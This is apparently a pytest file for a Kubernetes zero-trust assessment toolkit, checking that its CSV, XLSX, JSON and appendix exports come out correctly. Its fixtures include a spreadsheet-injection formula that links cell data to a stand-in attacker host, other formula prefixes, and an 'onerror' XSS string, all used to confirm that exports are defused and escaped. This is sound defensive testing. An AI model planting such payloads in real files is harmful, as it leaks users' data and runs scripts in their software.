"""Exports: findings CSV (formula-safe), XLSX (a sheet per pillar), summary.json."""

from __future__ import annotations

import csv

import orjson
import pytest
from openpyxl import load_workbook

from tests.report.factories import frame, row
from zt_toolkit.checks.model import PILLAR_TITLES, Pillar
from zt_toolkit.frameworks import nsa_cisa_sections
from zt_toolkit.report import export, scores
from zt_toolkit.report import tables as t

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_defuses_formulas_and_json_keeps_exact_values(tmp_path):
    f = frame(row("a", name="api", detail=FORMULA), row("b", "pass", name="+cmd", detail="-x"),
              row("c", name="@SUM(A1)"))
    csv_path, json_path = export.write_findings(f, tmp_path)
    with csv_path.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["detail"] == "'" + FORMULA
    assert rows[0]["name"] == "api"
    assert rows[1]["name"] == "'+cmd" and rows[1]["detail"] == "'-x"
    assert rows[2]["name"] == "'@SUM(A1)"
    records = orjson.loads(json_path.read_bytes())
    assert records[0]["detail"] == FORMULA and records[1]["name"] == "+cmd"


def test_xlsx_has_a_summary_and_a_sheet_per_pillar_with_text_cells(tmp_path):
    f = frame(row("crit", "fail", severity="critical", name="api", detail=FORMULA),
              row("crit", "pass", severity="critical", name="web"),
              row("low", "fail", severity="low", name="db"),
              row("net", "pass", pillar="network", kind="Namespace", namespace="", name="shop"))
    path = export.write_findings_xlsx(f, tmp_path / "findings.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames[0] == "Summary"
    assert wb.sheetnames[1:] == [export._sheet_title(PILLAR_TITLES[p]) for p in Pillar]
    assert all(len(name) <= 31 for name in wb.sheetnames)
    ps = wb[export._sheet_title(PILLAR_TITLES[Pillar.POD_SECURITY])]
    header = [c.value for c in ps[1]]
    assert header == list(export.XLSX_COLUMNS)
    body = [dict(zip(header, (c.value for c in r), strict=True)) for r in ps.iter_rows(min_row=2)]
    # open failures first, most severe first, then passes
    assert [(r["status"], r["name"]) for r in body] == [("fail", "api"), ("fail", "db"),
                                                       ("pass", "web")]
    cell = next(c for c in ps["H"] if c.value == FORMULA)
    assert cell.data_type == "s"  # stored as text: Excel will not evaluate it
    summary = wb["Summary"]
    titles = [summary.cell(row=i, column=1).value for i in range(2, 8)]
    assert titles == [PILLAR_TITLES[p] for p in Pillar]
    assert ps.freeze_panes == "A2"


def test_sheet_titles_obey_excel_rules():
    title = "Image and supply chain security"
    assert export._sheet_title(title) == title
    assert export._sheet_title("a/b:c*d?e[f]g\\h" * 5) == "abcdefgh" * 3 + "abcdefg"


@pytest.fixture(scope="module")
def demo_summary(demo):
    return export.build_summary(demo)


def test_summary_json_carries_the_same_scores_as_the_report(demo, demo_summary, tmp_path):
    path = export.write_summary_json(demo_summary, tmp_path / "summary.json")
    s = orjson.loads(path.read_bytes())
    assert s["schema_version"] == export.SUMMARY_SCHEMA_VERSION
    assert s["cluster"]["name"] == demo.snapshot.cluster.name
    assert s["score"]["model"] == scores.MODEL
    pillars, overall = scores.score_assessment(demo.findings)
    assert s["score"]["overall"] == overall["score"]
    assert s["score"]["stage"] == overall["stage"]
    by_pillar = {p["pillar"]: p for p in s["score"]["pillars"]}
    assert list(by_pillar) == [p.value for p in Pillar]
    for p in pillars.itertuples():
        assert by_pillar[p.pillar]["score"] == p.score
        assert by_pillar[p.pillar]["stage"] == p.stage
    table = t.summarize_pillars(demo.findings).set_index("pillar")
    for name, p in by_pillar.items():
        assert p["fail"] == table.loc[name, "fail"]
        assert p["failing_resources"] == table.loc[name, "failing_resources"]
    top = t.summarize_top_risks(demo.findings, n=10)
    assert [r["check_id"] for r in s["top_risks"]] == top["check_id"].tolist()
    assert s["counts"]["open_failures"] == int(
        ((demo.findings["status"] == "fail") & ~demo.findings["waived"]).sum())


def test_every_check_maps_to_an_nsa_cisa_section():
    from zt_toolkit.checks.registry import all_checks

    sections = nsa_cisa_sections()
    missing = [c.id for c in all_checks() if c.id not in sections]
    assert not missing
    catalogue = t.summarize_check_catalogue()
    assert catalogue["nsa_cisa"].ne("").all()
    assert len(catalogue) == len(all_checks())


def test_failures_appendix_lists_every_failing_check_and_cuts_long_lists():
    f = frame(*[row("many", name=f"w{i:02d}", detail=f"d{i}") for i in range(15)],
              row("one", severity="critical", pillar="network", name="<b>x</b>"),
              row("ok", "pass"), row("w", waived=True, waiver_reason="accepted"))
    a = t.summarize_failures_appendix(f, limit=12).set_index("check_id")
    assert list(a.index) == ["one", "many"]  # network before pod security
    lines = a.loc["many", "resources"].split("\n")
    assert lines[0] == "Deployment shop/w00 — d0"
    assert len(lines) == 13 and lines[-1].startswith("… and 3 more")
    assert a.loc["many", "affected"] == 15
    html = t.render_table(t.summarize_failures_appendix(f))
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<b>x</b>" not in html
    assert "<br>" in html  # one resource per line


def test_findings_appendix_narrative_escapes_and_cuts():
    from tests.report.factories import assessment_of
    from zt_toolkit.report.notebook import narrate_failures_appendix

    f = frame(*[row("many", name=f"w{i:02d}", detail="x" * 300) for i in range(10)],
              row("one", severity="critical", pillar="network", name="<img src=x onerror=y>",
                  remediation="kubectl apply -f - <<'EOF'\nkind: NetworkPolicy\nEOF"))
    text = narrate_failures_appendix(assessment_of(f), limit=8, detail_chars=50).data
    assert text.index("### Network security") < text.index("### Pod security")
    assert "<img" not in text and "&lt;img src=x onerror=y&gt;" in text
    assert "```\nkubectl apply -f - <<'EOF'\nkind: NetworkPolicy\nEOF\n```" in text
    assert "(10 failing resources)" in text
    assert "… and 2 more \\(all in findings\\.xlsx\\)" in text
    assert "x" * 60 not in text  # details cut at 50 characters
